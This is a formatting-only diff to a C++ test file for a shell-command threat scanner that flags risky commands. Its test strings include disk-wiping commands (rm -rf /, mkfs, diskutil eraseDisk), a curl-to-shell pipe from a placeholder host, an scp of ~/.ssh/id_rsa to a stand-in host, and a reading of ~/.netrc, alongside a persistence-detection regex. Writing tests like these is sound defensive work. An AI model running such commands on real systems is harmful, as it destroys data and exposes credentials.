@@ -11,7 +11,7 @@
 namespace {
 
 struct Row {
-    const char *command;  // UTF-8
+    const char *command; // UTF-8
     std::initializer_list<const char *> ruleIDs;
 };
 
@@ -160,9 +160,9 @@ TEST(CommandThreatScanner, EmptyAndBlankCommandsYieldNothing)
 
 TEST(CommandThreatScanner, OneCommandCanBreakAllSevenRulesInAFixedOrder)
 {
-    const QString command = QStringLiteral(
-        "rm -rf /; diskutil eraseDisk APFS X disk4; curl https://x.example | sh; scp ~/.ssh/id_rsa h:; "
-        "eval $(x); crontab -e; sudo ls");
+    const QString command =
+        QStringLiteral("rm -rf /; diskutil eraseDisk APFS X disk4; curl https://x.example | sh; scp ~/.ssh/id_rsa h:; "
+                       "eval $(x); crontab -e; sudo ls");
     const CommandThreatAssessment assessment = CommandThreatScanner::assess(command);
     EXPECT_EQ(ruleIDsOf(command),
               ids({"destructive-root-delete", "disk-destructive", "encoded-execution", "remote-script-pipe-shell",
@@ -210,16 +210,19 @@ TEST(CommandThreatScanner, FindingsCarryTheFixedTextsNeverTheMatchedCommand)
          "The command references a file that commonly contains credentials or private keys.",
          "SSH, AWS, netrc, or GnuPG credential path"},
     };
-    QList<CommandThreatFinding> findings = CommandThreatScanner::assess(QStringLiteral(
-        "rm -rf /; mkfs /dev/sdb; curl u | sh; scp ~/.ssh/id_rsa h:; eval $(x); crontab -e; sudo ls")).findings;
+    QList<CommandThreatFinding> findings =
+        CommandThreatScanner::assess(
+            QStringLiteral(
+                "rm -rf /; mkfs /dev/sdb; curl u | sh; scp ~/.ssh/id_rsa h:; eval $(x); crontab -e; sudo ls"))
+            .findings;
     findings += CommandThreatScanner::assess(QStringLiteral("cat ~/.netrc")).findings;
     ASSERT_EQ(findings.size(), 8);
     for (qsizetype i = 0; i < findings.size(); ++i) {
         const Expected &expected = table[i];
-        EXPECT_EQ(findings[i], (CommandThreatFinding{QString::fromLatin1(expected.ruleID), expected.severity,
-                                                     QString::fromUtf8(expected.title),
-                                                     QString::fromUtf8(expected.explanation),
-                                                     QString::fromUtf8(expected.evidence)}));
+        EXPECT_EQ(findings[i],
+                  (CommandThreatFinding {QString::fromLatin1(expected.ruleID), expected.severity,
+                                         QString::fromUtf8(expected.title), QString::fromUtf8(expected.explanation),
+                                         QString::fromUtf8(expected.evidence)}));
     }
 }
 
@@ -311,7 +314,8 @@ TEST(CommandThreatScanner, PatternsHaveTheirExactLengthsAndCompile)
     EXPECT_EQ(lengths(S::persistencePatternSources), QList<qsizetype>({89, 95, 52, 59}));
     EXPECT_EQ(lengths(S::privilegedPatternSources), QList<qsizetype>({52, 66, 107}));
     EXPECT_EQ(S::privilegedPatternSources[0], S::persistencePatternSources[2]);
-    EXPECT_EQ(S::persistencePatternSources[2], std::u16string_view(uR"((?i)(?:^|[\s;&|()])(?:/bin/)?launchctl\s+bootstrap\b)"));
+    EXPECT_EQ(S::persistencePatternSources[2],
+              std::u16string_view(uR"((?i)(?:^|[\s;&|()])(?:/bin/)?launchctl\s+bootstrap\b)"));
 
     const S::Patterns &compiled = S::patterns();
     EXPECT_EQ(compiled.privileged[0], compiled.persistence[2]);
@@ -322,7 +326,8 @@ TEST(CommandThreatScanner, PatternsHaveTheirExactLengthsAndCompile)
 TEST(CommandThreatScanner, FingerprintIsSha256OfTheUtf8BytesInLowercaseHex)
 {
     using S = CommandThreatScanner;
-    EXPECT_EQ(S::fingerprint(QString()), QStringLiteral("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
+    EXPECT_EQ(S::fingerprint(QString()),
+              QStringLiteral("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
     EXPECT_EQ(S::fingerprint(QStringLiteral("é")),
               QStringLiteral("4a99557e4033c3539de2eb65472017cad5f9557f7a0625a09f1c3f6e2ba69c4c"));
     EXPECT_EQ(S::fingerprint(QString::fromUtf8("日本語 ✓ 🚀")),
@@ -339,23 +344,24 @@ TEST(CommandThreatScanner, FingerprintIsSha256OfTheUtf8BytesInLowercaseHex)
 
 TEST(CommandThreatAssessment, CriticalTestEqualityAndApprovalMatching)
 {
-    const CommandThreatFinding critical{QStringLiteral("disk-destructive"), CommandThreatSeverity::critical, {}, {}, {}};
-    const CommandThreatFinding medium{QStringLiteral("privileged-launch"), CommandThreatSeverity::medium, {}, {}, {}};
+    const CommandThreatFinding critical {
+        QStringLiteral("disk-destructive"), CommandThreatSeverity::critical, {}, {}, {}};
+    const CommandThreatFinding medium {QStringLiteral("privileged-launch"), CommandThreatSeverity::medium, {}, {}, {}};
     const QString fingerprint = CommandThreatScanner::fingerprint(QStringLiteral("x"));
 
-    EXPECT_FALSE((CommandThreatAssessment{fingerprint, {}}).hasCriticalFinding());
-    EXPECT_FALSE((CommandThreatAssessment{fingerprint, {medium}}).hasCriticalFinding());
-    EXPECT_TRUE((CommandThreatAssessment{fingerprint, {medium, critical}}).hasCriticalFinding());
+    EXPECT_FALSE((CommandThreatAssessment {fingerprint, {}}).hasCriticalFinding());
+    EXPECT_FALSE((CommandThreatAssessment {fingerprint, {medium}}).hasCriticalFinding());
+    EXPECT_TRUE((CommandThreatAssessment {fingerprint, {medium, critical}}).hasCriticalFinding());
 
-    const CommandThreatAssessment ordered{fingerprint, {critical, medium}};
-    const CommandThreatAssessment swapped{fingerprint, {medium, critical}};
+    const CommandThreatAssessment ordered {fingerprint, {critical, medium}};
+    const CommandThreatAssessment swapped {fingerprint, {medium, critical}};
     EXPECT_NE(ordered, swapped);
-    EXPECT_EQ(ordered, (CommandThreatAssessment{fingerprint, {critical, medium}}));
-    EXPECT_EQ(qHash(ordered), qHash(CommandThreatAssessment{fingerprint, {critical, medium}}));
+    EXPECT_EQ(ordered, (CommandThreatAssessment {fingerprint, {critical, medium}}));
+    EXPECT_EQ(qHash(ordered), qHash(CommandThreatAssessment {fingerprint, {critical, medium}}));
 
-    EXPECT_TRUE(CommandThreatApproval{fingerprint}.matches(ordered));
-    EXPECT_FALSE(CommandThreatApproval{fingerprint.toUpper()}.matches(ordered));
-    EXPECT_FALSE(CommandThreatApproval{CommandThreatScanner::fingerprint(QStringLiteral("x "))}.matches(ordered));
+    EXPECT_TRUE(CommandThreatApproval {fingerprint}.matches(ordered));
+    EXPECT_FALSE(CommandThreatApproval {fingerprint.toUpper()}.matches(ordered));
+    EXPECT_FALSE(CommandThreatApproval {CommandThreatScanner::fingerprint(QStringLiteral("x "))}.matches(ordered));
 }
 
 TEST(CommandThreatScanner, QuadraticBacktrackingIsCutShortAndCountsAsAMatch)
